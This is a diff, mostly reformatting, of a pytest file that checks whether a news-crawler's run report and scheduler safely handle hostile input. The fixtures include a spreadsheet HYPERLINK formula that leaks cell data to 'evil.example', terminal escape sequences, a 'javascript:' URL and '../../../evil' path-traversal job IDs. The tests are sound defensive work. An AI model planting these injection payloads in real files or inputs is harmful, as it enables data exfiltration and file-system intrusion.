@@ -10,10 +10,10 @@ import sys
 from pathlib import Path
 
 import pytest
-
 from conftest import replay_crawl
-from newscrawl.tools.cli import RunLog, Scheduler
 from test_scheduler import FakeScrapyd
+
+from newscrawl.tools.cli import RunLog, Scheduler
 
 HOSTILE = {
     "headline": '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
@@ -65,18 +65,68 @@ def hostile_run_log(data: Path) -> None:
     (data / "nu").mkdir(parents=True)
     (data / "nu" / "list.manifest.json").write_text("[1, 2, 3]")
     (data / "nu" / "broken.manifest.json").write_text("{not json")
-    (data / "nu" / "shapes.manifest.json").write_text(json.dumps({
-        "fieldCoverage": "all of it", "layout": ["x"], "urls": {"outcomeDetails": {"failure:<b>x</b>": "<i>3</i>"}}}))
+    (data / "nu" / "shapes.manifest.json").write_text(
+        json.dumps(
+            {
+                "fieldCoverage": "all of it",
+                "layout": ["x"],
+                "urls": {"outcomeDetails": {"failure:<b>x</b>": "<i>3</i>"}},
+            }
+        )
+    )
     entries = [
-        {"job": MARKUP, "spider": MARKUP, "end": "\x1b[2J" + MARKUP, "status": "ok", "items": MARKUP, "new": "<b>1</b>",
-         "revised": {"x": 1}, "failures": 0, "rejects": "\x1b]0;pwned\x07", "problems": [MARKUP, "\x1b[31mred\x1b[0m"],
-         "manifest": "javascript:window.pwned=3"},
-        {"job": "j2", "spider": "nu", "end": "2025-04-01 02:00:00", "status": "failed", "items": 3, "new": 1, "revised": 0,
-         "failures": 1, "rejects": 0, "problems": "not a list", "manifest": str(data / "nu" / "list.manifest.json")},
-        {"job": "j3", "spider": "nu", "end": "2025-04-01 03:00:00", "status": "ok", "items": 4, "new": 4, "revised": 0,
-         "failures": 0, "rejects": 0, "problems": [], "manifest": str(data / "nu" / "broken.manifest.json")},
-        {"job": "j4", "spider": "nu", "end": "2025-04-01 04:00:00", "status": "ok", "items": 5, "new": 5, "revised": 0,
-         "failures": 0, "rejects": 0, "problems": [], "manifest": str(data / "nu" / "shapes.manifest.json")},
+        {
+            "job": MARKUP,
+            "spider": MARKUP,
+            "end": "\x1b[2J" + MARKUP,
+            "status": "ok",
+            "items": MARKUP,
+            "new": "<b>1</b>",
+            "revised": {"x": 1},
+            "failures": 0,
+            "rejects": "\x1b]0;pwned\x07",
+            "problems": [MARKUP, "\x1b[31mred\x1b[0m"],
+            "manifest": "javascript:window.pwned=3",
+        },
+        {
+            "job": "j2",
+            "spider": "nu",
+            "end": "2025-04-01 02:00:00",
+            "status": "failed",
+            "items": 3,
+            "new": 1,
+            "revised": 0,
+            "failures": 1,
+            "rejects": 0,
+            "problems": "not a list",
+            "manifest": str(data / "nu" / "list.manifest.json"),
+        },
+        {
+            "job": "j3",
+            "spider": "nu",
+            "end": "2025-04-01 03:00:00",
+            "status": "ok",
+            "items": 4,
+            "new": 4,
+            "revised": 0,
+            "failures": 0,
+            "rejects": 0,
+            "problems": [],
+            "manifest": str(data / "nu" / "broken.manifest.json"),
+        },
+        {
+            "job": "j4",
+            "spider": "nu",
+            "end": "2025-04-01 04:00:00",
+            "status": "ok",
+            "items": 5,
+            "new": 5,
+            "revised": 0,
+            "failures": 0,
+            "rejects": 0,
+            "problems": [],
+            "manifest": str(data / "nu" / "shapes.manifest.json"),
+        },
     ]
     (data / "runs.jsonl").write_text("".join(json.dumps(entry) + "\n" for entry in entries), "utf-8")
 
@@ -89,7 +139,9 @@ def test_the_run_report_shows_markup_as_text_and_survives_wrong_shapes(tmp_path)
     hostile_run_log(data)
     report = tmp_path / "runs.html"
     result = newscrawl("runs", str(data), "--html", str(report))
-    assert result.returncode == 0 and report.exists(), result.stderr  # each spider's latest job is ok; the report is whole
+    assert result.returncode == 0 and report.exists(), (
+        result.stderr
+    )  # each spider's latest job is ok; the report is whole
     from playwright.sync_api import sync_playwright
 
     with sync_playwright() as playwright:
@@ -134,12 +186,20 @@ def test_stats_print_no_terminal_control_sequences(hostile_dataset, tmp_path):
 def test_job_ids_are_checked_before_they_name_a_file(tmp_path):
     data = tmp_path / "data"
     scrapyd = FakeScrapyd(active=())
-    scrapyd.finished = [{"id": "../../../evil", "spider": "nu"}, {"id": "ok-1", "spider": "../nu"}, {"id": "crash-2", "spider": "wnl"}]
+    scrapyd.finished = [
+        {"id": "../../../evil", "spider": "nu"},
+        {"id": "ok-1", "spider": "../nu"},
+        {"id": "crash-2", "spider": "wnl"},
+    ]
     Scheduler(scrapyd, "newscrawl", [], data).tick()
     written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
     assert written == ["data/runs.jsonl", "data/wnl/wnl-crash-2.crashed.manifest.json"]
     entries = RunLog(data).entries()
-    assert [(e["job"], e["status"]) for e in entries] == [("../../../evil", "failed"), ("ok-1", "failed"), ("crash-2", "failed")]
+    assert [(e["job"], e["status"]) for e in entries] == [
+        ("../../../evil", "failed"),
+        ("ok-1", "failed"),
+        ("crash-2", "failed"),
+    ]
     assert entries[0]["problems"] == ["job id or spider name is not a safe file name"]
 
 
@@ -155,7 +215,9 @@ def test_a_malformed_manifest_never_stops_the_scheduler(tmp_path):
     outcome = Scheduler(scrapyd, "newscrawl", ["wnl"], data).tick()
     assert outcome == {"wnl": "job-wnl"}  # the tick went on and scheduled
     entries = {e["job"]: e for e in RunLog(data).entries()}
-    assert entries["j1"]["status"] == "failed" and "crashed" in entries["j1"]["problems"][0]  # no manifest of its own: a stub
+    assert (
+        entries["j1"]["status"] == "failed" and "crashed" in entries["j1"]["problems"][0]
+    )  # no manifest of its own: a stub
     assert entries["j2"]["status"] == "ok" and entries["j2"]["items"] == 0
 
 
